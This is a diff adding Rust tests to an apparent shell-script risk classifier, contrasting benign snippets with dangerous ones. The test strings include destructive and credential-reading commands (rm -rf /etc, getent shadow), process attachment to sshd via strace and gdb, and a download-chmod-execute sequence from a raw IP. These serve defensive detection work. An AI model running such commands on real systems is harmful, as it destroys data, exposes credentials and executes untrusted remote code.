@@ -170,3 +170,37 @@ fn a_shell_head_that_hands_the_file_to_another_interpreter_is_that_interpreters_
     // A redirection alone keeps the shell.
     at_least("exec >log 2>&1\nsudo rm -rf /etc\n", Level::High);
 }
+
+#[test]
+fn one_accounts_entry_looked_up_is_not_the_accounts_database() {
+    // Whose home is it? One entry, the user's own.
+    below_high("GHD=${GNUPGHOME:-${HOME:-$(getent passwd \"$(id -u)\" | cut -f6 -d:)}/.gnupg}\necho \"$GHD\"\n");
+    // The whole database, or password hashes even for one user, are still read.
+    at_least("getent passwd | cut -d: -f1,6\n", Level::High);
+    at_least("getent shadow \"$USER\"\n", Level::High);
+}
+
+#[test]
+fn tracing_a_process_the_script_started_is_tracing_its_own_child() {
+    // perf's tests: two workloads started in the background, then recorded by their ids.
+    below_high(
+        "rec() {\n  perf record -B -N \"$@\"\n}\n./workload &\nw1=$!\n./workload &\nw2=$!\nrec -o perf.data --per-thread -p \"${w1},${w2}\"\n",
+    );
+    // A process found by name, a pid given from outside, or init: attaching reaches past it.
+    at_least("strace -f -p \"$(pgrep -n sshd)\"\n", Level::High);
+    at_least("gdb -p \"$1\" -batch -ex bt\n", Level::High);
+    at_least("./workload &\nperf record -p 1\n", Level::High);
+}
+
+#[test]
+fn a_path_built_from_a_substitution_holding_a_colon_slash_slash_is_not_a_url() {
+    // nmudiff: the version without its epoch, through `sed 's/^[0-9]\+://'`, names the diff.
+    below_high(
+        "MUTT_PRG=neomutt\nV=$(echo \"$VERSION\" | sed \"s/^[0-9]\\+://\")\n$MUTT_PRG -s subject -a ../pkg-${V}-nmu.diff -- submit@bugs.debian.org\n",
+    );
+    // A URL held by variables, given to a program the table does not know, is still fetched.
+    at_least(
+        "proto=http\nhost=203.0.113.9\nsometool get \"$proto://$host/p\" -o /tmp/p\nchmod +x /tmp/p\n/tmp/p\n",
+        Level::Blocked,
+    );
+}
